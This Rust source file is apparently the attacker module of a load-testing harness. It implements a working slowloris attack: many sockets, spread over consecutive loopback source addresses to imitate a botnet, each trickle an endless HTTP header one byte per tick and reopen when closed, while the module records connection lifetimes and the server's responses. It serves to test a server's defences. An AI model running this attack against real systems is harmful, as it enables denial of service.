//! The attacker: sockets from `addresses` loopback source addresses in turn (a botnet,
//! each address under the per-address share), each trickling a request head that never
//! ends, one byte per tick, and reopened as soon as the server closes it.
//!
//! Each socket is a task that acts once per tick: it writes the next byte, then reads
//! until the next tick, so a close (end of stream, a reset, or an answer such as actix's
//! 408 and then the close) is seen within a tick. What it keeps is the attacker's view:
//! connects that succeeded (a connection waiting in the server's listen backlog counts:
//! the kernel completed it), connects that failed and why, how long each connection
//! stayed open, and how many were open at each moment.

use std::collections::BTreeMap;
use std::io;
use std::net::{IpAddr, SocketAddr};
use std::sync::atomic::{AtomicBool, AtomicI64, Ordering};
use std::sync::Arc;
use std::time::Duration;

use serde::Serialize;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::time::Instant;

use loadtest_core::report::percentile;

/// The start of every trickled head; after it, `a` forever (one header line that never
/// ends, so no amount of patience completes the head).
const HEAD: &[u8] = b"GET /health/live HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slowloris: ";

#[derive(Debug, Clone)]
pub struct Attack {
    pub target: SocketAddr,
    /// The first source address (a loopback address the app does not trust as a proxy,
    /// e.g. 127.0.1.1); socket `i` is bound to the `i % addresses`-th after it.
    pub source: IpAddr,
    /// How many source addresses the sockets are spread over (1: all from `source`).
    pub addresses: u32,
    pub sockets: usize,
    /// One byte per socket per tick.
    pub tick: Duration,
    /// Wait this long before reopening a socket the server closed (0: at once).
    pub reopen_delay: Duration,
    /// A connect that takes longer (the server's listen backlog is full) is given up
    /// and tried again.
    pub connect_timeout: Duration,
}

/// The attack while it runs: how many sockets are open now, and the signal to stop.
#[derive(Debug, Default)]
pub struct Live {
    pub open: AtomicI64,
    pub established: AtomicI64,
    stop: AtomicBool,
}

impl Live {
    pub fn stop(&self) {
        self.stop.store(true, Ordering::Relaxed);
    }

    fn stopping(&self) -> bool {
        self.stop.load(Ordering::Relaxed)
    }
}

/// What one socket slot saw over the run.
#[derive(Debug, Default)]
pub struct SlotStats {
    attempts: u64,
    established: u64,
    failures: BTreeMap<String, u64>,
    closed_by_server: u64,
    /// What the server sent before closing ("408", ...), by connection.
    answers: BTreeMap<String, u64>,
    lifetimes_ms: Vec<f64>,
}

/// `Live::open` counts a connection while this lives.
struct Counted<'a>(&'a AtomicI64);

impl<'a> Counted<'a> {
    fn new(open: &'a AtomicI64) -> Self {
        open.fetch_add(1, Ordering::Relaxed);
        Self(open)
    }
}

impl Drop for Counted<'_> {
    fn drop(&mut self) {
        self.0.fetch_sub(1, Ordering::Relaxed);
    }
}

enum End {
    /// The server closed it; what it said first, if anything.
    Closed(Option<String>),
    /// The attack is over (the connection was open until then).
    Over,
}

async fn connect_from(source: IpAddr, target: SocketAddr) -> io::Result<TcpStream> {
    let socket = if source.is_ipv4() {
        TcpSocket::new_v4()?
    } else {
        TcpSocket::new_v6()?
    };
    socket.bind(SocketAddr::new(source, 0))?;
    socket.connect(target).await
}

/// One slot: connect, trickle until closed, reopen; until `live` says stop or `until`.
pub async fn slot(index: usize, attack: Arc<Attack>, live: Arc<Live>, until: Instant) -> SlotStats {
    let mut stats = SlotStats::default();
    let source = nth_address(attack.source, index as u32 % attack.addresses.max(1));
    // The first connects are spread over one tick, as are the bytes after them.
    let offset = attack
        .tick
        .mul_f64(index as f64 / attack.sockets.max(1) as f64);
    tokio::time::sleep(offset).await;
    while !live.stopping() && Instant::now() < until {
        stats.attempts += 1;
        let give_up = (Instant::now() + attack.connect_timeout).min(until);
        let stream =
            match tokio::time::timeout_at(give_up, connect_from(source, attack.target)).await {
                Ok(Ok(stream)) => stream,
                Ok(Err(e)) => {
                    *stats.failures.entry(format!("{:?}", e.kind())).or_default() += 1;
                    // Nothing to hold: try again next tick rather than spin.
                    tokio::time::sleep_until((Instant::now() + attack.tick).min(until)).await;
                    continue;
                }
                Err(_) => {
                    *stats.failures.entry("connect timeout".into()).or_default() += 1;
                    continue;
                }
            };
        stats.established += 1;
        live.established.fetch_add(1, Ordering::Relaxed);
        let opened = Instant::now();
        let held = Counted::new(&live.open);
        let end = trickle(stream, attack.tick, &live, until).await;
        drop(held);
        match end {
            End::Over => break,
            End::Closed(answer) => {
                stats.closed_by_server += 1;
                stats
                    .lifetimes_ms
                    .push(opened.elapsed().as_secs_f64() * 1000.0);
                if let Some(answer) = answer {
                    *stats.answers.entry(answer).or_default() += 1;
                }
            }
        }
        if !attack.reopen_delay.is_zero() {
            tokio::time::sleep_until((Instant::now() + attack.reopen_delay).min(until)).await;
        }
    }
    stats
}

/// Sends a byte per tick of a head that never ends, until the server closes the
/// connection or the attack is over.
async fn trickle(mut stream: TcpStream, tick: Duration, live: &Live, until: Instant) -> End {
    let mut bytes = HEAD.iter().copied().chain(std::iter::repeat(b'a'));
    let mut buffer = [0u8; 512];
    let mut answer = None;
    loop {
        if live.stopping() || Instant::now() >= until {
            return End::Over;
        }
        let byte = bytes.next().unwrap_or(b'a');
        if stream.write_all(&[byte]).await.is_err() {
            return End::Closed(answer);
        }
        let next = (Instant::now() + tick).min(until);
        loop {
            match tokio::time::timeout_at(next, stream.read(&mut buffer)).await {
                Err(_) => break,
                Ok(Ok(0)) | Ok(Err(_)) => return End::Closed(answer),
                Ok(Ok(n)) => {
                    if answer.is_none() {
                        answer = Some(status_of(&buffer[..n]));
                    }
                }
            }
        }
    }
}

/// The `n`th address after `first` (an IPv4 or IPv6 address plus `n`).
pub fn nth_address(first: IpAddr, n: u32) -> IpAddr {
    match first {
        IpAddr::V4(v4) => IpAddr::V4(u32::from(v4).wrapping_add(n).into()),
        IpAddr::V6(v6) => IpAddr::V6(u128::from(v6).wrapping_add(u128::from(n)).into()),
    }
}

/// "408" for `HTTP/1.1 408 Request Timeout...`, "other bytes" for anything else.
fn status_of(bytes: &[u8]) -> String {
    let text = String::from_utf8_lossy(bytes);
    text.strip_prefix("HTTP/1.1 ")
        .or_else(|| text.strip_prefix("HTTP/1.0 "))
        .and_then(|rest| rest.get(..3))
        .map_or_else(|| "other bytes".to_string(), str::to_string)
}

#[derive(Debug, Serialize)]
pub struct AttackReport {
    /// The first source address, and how many the sockets were spread over.
    pub source: IpAddr,
    pub addresses: u32,
    pub sockets: usize,
    pub byte_every_ms: u64,
    pub reopen_delay_ms: u64,
    pub connects_attempted: u64,
    pub connects_established: u64,
    pub connects_per_sec: f64,
    /// Connects that failed, by why (`ConnectionRefused`, `connect timeout`, ...).
    pub connect_failures: BTreeMap<String, u64>,
    pub closed_by_server: u64,
    /// What the server sent before closing a connection, by connection.
    pub answers_before_close: BTreeMap<String, u64>,
    /// How long the connections the server closed had been open.
    pub lifetime_ms: Spread,
    /// Sockets open at once, sampled every 100 ms over the measured window.
    pub held_open: HeldOpen,
}

#[derive(Debug, Serialize)]
pub struct Spread {
    pub p50: f64,
    pub p90: f64,
    pub max: f64,
}

#[derive(Debug, Serialize)]
pub struct HeldOpen {
    pub mean: f64,
    pub min: i64,
    pub max: i64,
}

/// The attack's report from its slots and the samples of open sockets.
pub fn report(
    attack: &Attack,
    slots: Vec<SlotStats>,
    open_samples: &[i64],
    seconds: f64,
) -> AttackReport {
    let mut total = SlotStats::default();
    for s in slots {
        total.attempts += s.attempts;
        total.established += s.established;
        total.closed_by_server += s.closed_by_server;
        for (k, v) in s.failures {
            *total.failures.entry(k).or_default() += v;
        }
        for (k, v) in s.answers {
            *total.answers.entry(k).or_default() += v;
        }
        total.lifetimes_ms.extend(s.lifetimes_ms);
    }
    total.lifetimes_ms.sort_by(f64::total_cmp);
    let lifetimes = &total.lifetimes_ms;
    AttackReport {
        source: attack.source,
        addresses: attack.addresses.max(1),
        sockets: attack.sockets,
        byte_every_ms: attack.tick.as_millis() as u64,
        reopen_delay_ms: attack.reopen_delay.as_millis() as u64,
        connects_attempted: total.attempts,
        connects_established: total.established,
        connects_per_sec: total.attempts as f64 / seconds.max(f64::EPSILON),
        connect_failures: total.failures,
        closed_by_server: total.closed_by_server,
        answers_before_close: total.answers,
        lifetime_ms: Spread {
            p50: percentile(lifetimes, 50.0),
            p90: percentile(lifetimes, 90.0),
            max: lifetimes.last().copied().unwrap_or(0.0),
        },
        held_open: HeldOpen {
            mean: open_samples.iter().sum::<i64>() as f64 / open_samples.len().max(1) as f64,
            min: open_samples.iter().copied().min().unwrap_or(0),
            max: open_samples.iter().copied().max().unwrap_or(0),
        },
    }
}

#[cfg(test)]
mod tests {
    use super::{nth_address, status_of};

    #[test]
    fn sockets_are_spread_over_consecutive_addresses() {
        let first = "127.0.1.1".parse().unwrap();
        assert_eq!(nth_address(first, 0), first);
        assert_eq!(nth_address(first, 99).to_string(), "127.0.1.100");
        assert_eq!(nth_address(first, 255).to_string(), "127.0.2.0");
    }

    #[test]
    fn the_status_of_what_the_server_sent_before_closing() {
        assert_eq!(status_of(b"HTTP/1.1 408 Request Timeout\r\n"), "408");
        assert_eq!(status_of(b"HTTP/1.1 4"), "other bytes");
        assert_eq!(status_of(b"garbage"), "other bytes");
    }
}
